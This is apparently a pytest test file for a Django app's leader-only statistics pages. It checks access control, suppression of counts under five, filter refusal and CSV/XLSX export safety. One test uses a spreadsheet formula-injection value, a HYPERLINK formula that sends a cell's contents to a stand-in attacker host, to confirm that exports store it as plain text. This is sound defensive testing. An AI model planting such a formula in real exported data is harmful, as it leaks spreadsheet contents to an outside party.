"""The insight pages: leaders see figures and nothing else; everyone else sees nothing."""

import datetime
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from insight.models import WHOLE_MUNICIPALITY, TaskTime
from tests.ids import tid

# The cases walked here close today: read them as after the month ends (figures count
# finished months only).
pytestmark = pytest.mark.usefixtures("month_over")

PAGES = ("insight", "insight-annual", "insight-heatmap")
FIGURES = (
    "flow",
    "opened_by_process",
    "closed_by_outcome",
    "outcomes_by_tenure",
    "housing_time",
    "ball_by_agency",
    "ball_by_task",
    "overdue",
    "overdue_now",
    "escalations",
    "discharge",
)


def signed_in(client, user):
    client.force_login(user)
    return client


@pytest.mark.parametrize("page", PAGES)
def test_the_municipality_leader_opens_every_page(client, finished_cases, users, page):
    response = signed_in(client, users["leif"]).get(reverse(page))
    assert response.status_code == 200
    assert b'href="/insight/"' in response.content  # the menu entry


def test_the_page_shows_every_figure_with_its_chart_table_and_exports(client, finished_cases, users):
    html = signed_in(client, users["leif"]).get(reverse("insight")).content.decode()
    for key in FIGURES:
        assert f'id="figure-{key}"' in html
    assert html.count('data-export="csv"') >= 9 and html.count('data-export="xlsx"') >= 9
    assert "<svg" in html and "&lt;5" in html  # small counts hidden on the page too


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_hide_what_the_page_hides(client, finished_cases, users, fmt):
    client = signed_in(client, users["leif"])
    response = client.get(reverse("insight-export", args=["ball_by_agency", fmt]))
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    if fmt == "csv":
        rows = [line.split(";") for line in response.content.decode("utf-8-sig").splitlines()]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        rows = [[str(value) if value is not None else "" for value in row] for row in sheet.iter_rows(values_only=True)]
    counts = [row[1] for row in rows[2:] if len(row) > 1 and row[1]]
    assert counts and all(count in ("<5", "\u00d7") for count in counts)


@pytest.mark.parametrize("username", ["kari", "nils", "helga", "bjorn", "siri", "mona", "ada", "aud", "oscar"])
def test_no_one_but_a_leader_reads_the_figures(client, finished_cases, users, username):
    client = signed_in(client, users[username])
    assert client.get(reverse("insight")).status_code == 403
    assert client.get(reverse("insight-annual")).status_code == 403
    assert client.get(reverse("insight-export", args=["flow", "csv"])).status_code == 403


def test_a_process_admin_sees_the_heatmap_only(client, finished_cases, users):
    assert signed_in(client, users["ada"]).get(reverse("insight-heatmap")).status_code == 200
    assert signed_in(client, users["kari"]).get(reverse("insight-heatmap")).status_code == 403


def test_signing_in_is_required(client, finished_cases):
    response = client.get(reverse("insight"))
    assert response.status_code == 302 and "/login" in response["Location"]


def test_an_agency_leader_sees_only_the_figures_of_their_agency(client, finished_cases, users, agencies):
    client = signed_in(client, users["nina"])
    assert client.get(reverse("insight")).status_code == 200
    assert client.get(reverse("insight"), {"scope": 0}).status_code == 400
    assert client.get(reverse("insight"), {"scope": agencies["prison"].pk}).status_code == 400


def test_a_filter_narrower_than_five_is_refused_on_the_page_and_in_exports(client, finished_cases, users, agencies):
    client = signed_in(client, users["leif"])
    narrow = {"agency": agencies["prison"].pk}  # the prison completed one task
    response = client.get(reverse("insight"), narrow)
    # Its count is hidden among the other small ones: the refusal says so, not how few.
    assert response.status_code == 400 and "tabellen skjuler hvor mange" in response.content.decode()
    assert client.get(reverse("insight-export", args=["overdue", "csv"]), narrow).status_code == 400
    assert client.get(reverse("insight-heatmap"), narrow).status_code == 400


@pytest.mark.parametrize("query", [{"year": "abc"}, {"year": "1999"}, {"agency": "-1"}, {"scope": "x"}])
def test_bad_filters_answer_400(client, finished_cases, users, query):
    assert signed_in(client, users["leif"]).get(reverse("insight"), query).status_code == 400


def test_unknown_exports_are_not_found(client, finished_cases, users):
    client = signed_in(client, users["leif"])
    assert client.get(reverse("insight-export", args=["flow", "pdf"])).status_code == 404
    assert client.get(reverse("insight-export", args=["nothing", "csv"])).status_code == 404


def test_leaders_cannot_open_any_case_task_or_person_route(client, finished_cases, users):
    discharge, prison = finished_cases
    task = prison.tasks.first()
    for username in ("leif", "nina"):
        client = signed_in(client, users[username])
        for url in (
            f"/cases/{prison.pk}/",
            f"/cases/{discharge.pk}/",
            f"/cases/{prison.pk}/notes/",
            f"/cases/{prison.pk}/person-access-report/",
            f"/tasks/{tid(task.pk)}/",
            f"/api/v1/cases/{prison.pk}/",
            f"/api/v1/cases/{prison.pk}/timeline/",
            f"/api/v1/cases/{prison.pk}/diagram/",
            f"/api/v1/cases/{prison.pk}/access-log/",
            f"/api/v1/cases/{prison.pk}/person-access-report/",
            f"/api/v1/tasks/{tid(task.pk)}/",
        ):
            assert client.get(url).status_code in (403, 404), (username, url)
        assert client.get("/api/v1/cases/").json()["results"] == []
        assert client.get("/api/v1/tasks/").json()["results"] == []
        assert prison.reference not in client.get("/cases/").content.decode()


FORMULA = '=HYPERLINK("https://angriper.example/?"&B3;"Klikk")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, finished_cases, users, agencies, fmt):
    """Row labels come from names others choose (a task's name in a deployed model, an
    agency's name): one written as a spreadsheet formula must not run in the leader's
    spreadsheet when the export is opened (CSV or formula injection)."""
    agencies["nav"].name = FORMULA
    agencies["nav"].save(update_fields=["name"])
    response = signed_in(client, users["leif"]).get(reverse("insight-export", args=["ball_by_agency", fmt]))
    assert response.status_code == 200
    if fmt == "csv":
        cells = [cell for line in response.content.decode("utf-8-sig").splitlines() for cell in line.split(";")]
        labels = [cell for cell in cells if "HYPERLINK" in cell]
        assert labels and all(not cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in labels)
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        labels = [cell for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
        assert labels and all(cell.data_type == "s" for cell in labels)
        assert all(cell.value == FORMULA for cell in labels)  # shown as it was written


def test_a_name_with_a_control_character_is_exported_without_it(client, finished_cases, users, agencies):
    """An agency's name is typed in the admin and may carry a control character a workbook
    cannot hold (openpyxl refuses it): the export leaves it out instead of failing, and keeps
    every other character of the name, and of every other cell, as it was."""
    name = agencies["nav"].name
    agencies["nav"].name = f"{name[:3]}\x07\x1b{name[3:]}\x01"
    agencies["nav"].save(update_fields=["name"])
    response = signed_in(client, users["leif"]).get(reverse("insight-export", args=["ball_by_agency", "xlsx"]))
    assert response.status_code == 200
    cells = [
        value for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True) for value in row
    ]
    assert name in cells
    assert not [value for value in cells if isinstance(value, str) and re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", value)]


def test_the_agency_filter_tells_nothing_the_table_hides(client, db, shipped, users, agencies):
    """NAV completed five tasks and health one: the table shows health's as "<5", NAV's as the
    hidden mark (with the total, six, it would give health's away). Were the filter refused
    for health alone, its answer for NAV would tell that NAV's count is five or more, and so
    that health's is exactly one."""
    year = datetime.date.today().year
    for agency, completed in (("nav", 5), ("health", 1)):
        TaskTime.objects.create(
            scope=WHOLE_MUNICIPALITY,
            month=datetime.date(year, 1, 1),
            definition=shipped["housing_referral"],
            element_id="Task_register_referral",
            agency=agencies[agency],
            completed=completed,
            seconds=completed * 86400,
        )
    client = signed_in(client, users["leif"])
    page = client.get(reverse("insight"), {"year": year}).content.decode()
    row = re.search(r"<tr>(.*?NAV Sarpsborg.*?)</tr>", page.split('id="figure-ball_by_agency"')[1], re.S).group(1)
    assert "\u00d7" in row  # NAV's count is hidden on the page
    for kind in ("nav", "health"):
        query = {"year": year, "agency": agencies[kind].pk}
        assert client.get(reverse("insight"), query).status_code == 400, kind
        assert client.get(reverse("insight-export", args=["overdue", "csv"]), query).status_code == 400, kind
        assert client.get(reverse("insight-heatmap"), query).status_code == 400, kind
